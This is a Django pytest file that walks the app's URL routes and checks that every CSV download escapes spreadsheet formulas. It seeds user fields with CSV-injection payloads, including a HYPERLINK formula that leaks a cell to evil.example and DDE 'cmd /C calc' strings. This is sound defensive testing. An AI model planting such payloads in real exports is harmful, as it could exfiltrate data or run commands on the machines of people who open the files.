"""Every CSV download goes through the one writer, and no cell is ever a formula.

The routes are found by walking the URL conf, not listed by hand, so a new download is
covered the day it is added. Each person visits every one of our GET routes they can reach;
any answer that is a CSV is parsed and every cell checked.
"""

from __future__ import annotations

import csv
import io
import pathlib
import re
from datetime import timedelta

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from checkins.models import CheckIn
from network.consents import consent_record_sharing, consent_sign_part2
from network.models import SHARING_SCOPE_CHOICES, Role, Scope, Tie
from recovery.csv import FORMULA_TRIGGERS
from tests.factories import TherapistFactory

pytestmark = pytest.mark.django_db

OUR_MODULES = ("accounts.", "checkins.", "network.", "notifications.", "nudges.", "recovery.")
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"click")'
HOSTILE = {
    "supporter": HYPERLINK,
    "therapist": "+cmd|' /C calc'!A0",
    "offline": "@SUM(1+1)",
    "purpose": "-2+3+cmd|' /C calc'!A0",
    "signature": "=1+2",
    "notes": "=NOTES()",
    "gratitude": "\t=GRATITUDE()",
    "member": "\r=MEMBER()",
}
WRITES_CSV = re.compile(r"^\s*(import csv\b|from csv import)|text/csv|csv\.writer", re.M)
ROOT = pathlib.Path(__file__).resolve().parents[2]


def our_routes(patterns=None, namespace: str = ""):
    """(name for reverse, the route's keyword arguments) for every named route of ours."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from our_routes(entry.url_patterns, inner)
        elif isinstance(entry, URLPattern) and entry.name:
            module = getattr(entry.callback, "__module__", "") or ""
            if module.startswith(OUR_MODULES):
                yield f"{namespace}{entry.name}", sorted(entry.pattern.converters)


@pytest.fixture
def people(make_user):
    member = make_user("sam@example.org", display_name=HOSTILE["member"])
    friend = make_user(display_name=HOSTILE["supporter"])
    therapist = TherapistFactory(display_name=HOSTILE["therapist"])

    friend_tie = Tie.objects.create(member=member, supporter=friend, role=Role.FRIEND)
    consent_record_sharing(
        tie=friend_tie,
        scopes=[value for value, _ in SHARING_SCOPE_CHOICES],
        may_nudge=True,
        is_sos_contact=True,
    )
    therapist_tie = Tie.objects.create(member=member, supporter=therapist, role=Role.THERAPIST)
    consent_sign_part2(
        tie=therapist_tie,
        scopes=[Scope.MOOD_CRAVING, Scope.NOTES],
        purpose=HOSTILE["purpose"],
        signature_name=HOSTILE["signature"],
        expires_at=timezone.now() + timedelta(days=30),
    )
    offline = Tie.objects.create(member=member, offline_name=HOSTILE["offline"], role=Role.FAMILY)
    consent_record_sharing(tie=offline, scopes=[], may_nudge=False, is_sos_contact=False)
    CheckIn.objects.create(
        member=member,
        local_date=timezone.now().date(),
        mood=2,
        craving=7,
        used=False,
        connectedness=2,
        notes=HOSTILE["notes"],
        gratitude=HOSTILE["gratitude"],
    )
    return {
        "member": (member, friend_tie),
        "friend": (friend, friend_tie),
        "therapist": (therapist, therapist_tie),
    }


def _csv_downloads(client, user, tie) -> dict[str, list[list[str]]]:
    """Every CSV this person gets from any of our routes, by route name."""
    client.force_login(user)
    found = {}
    for name, kwargs in our_routes():
        if kwargs not in ([], ["tie_id"]):
            continue  # needs an object we cannot name here; the static check below covers it
        response = client.get(reverse(name, kwargs={"tie_id": tie.pk} if kwargs else None))
        if response.get("Content-Type", "").startswith("text/csv"):
            body = response.getvalue().decode()
            found[name] = list(csv.reader(io.StringIO(body)))
    client.logout()
    return found


@pytest.mark.slow
def test_no_csv_cell_anywhere_starts_a_formula(client, people):
    # Both supporters look first, so the member's access log carries their names.
    for who in ("friend", "therapist"):
        user, tie = people[who]
        client.force_login(user)
        client.get(reverse("network:supporting_member", args=[tie.pk]))
        client.logout()

    downloads = {}
    for who in ("friend", "therapist", "member"):
        user, tie = people[who]
        for name, rows in _csv_downloads(client, user, tie).items():
            downloads[f"{who} {name}"] = rows

    assert {"friend network:supporting_export", "therapist network:supporting_export"} <= set(
        downloads
    )
    assert {"member network:access_log_csv", "member network:consent_history_csv"} <= set(downloads)
    cells = {(where, cell) for where, rows in downloads.items() for row in rows for cell in row}
    dangerous = [(where, cell) for where, cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert dangerous == []
    # The hostile values really reached the files, neutralised rather than dropped.
    texts = {cell for _, cell in cells}
    for key in ("supporter", "therapist", "purpose", "signature", "notes", "gratitude"):
        assert "'" + HOSTILE[key] in texts, key


def test_every_csv_is_written_by_the_one_writer():
    """No module but recovery/csv.py writes CSV or sets a CSV content type itself."""
    offenders = []
    for app in ("accounts", "checkins", "network", "notifications", "nudges", "recovery"):
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "recovery" / "csv.py" or "migrations" in path.parts:
                continue
            text = path.read_text()
            if WRITES_CSV.search(text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
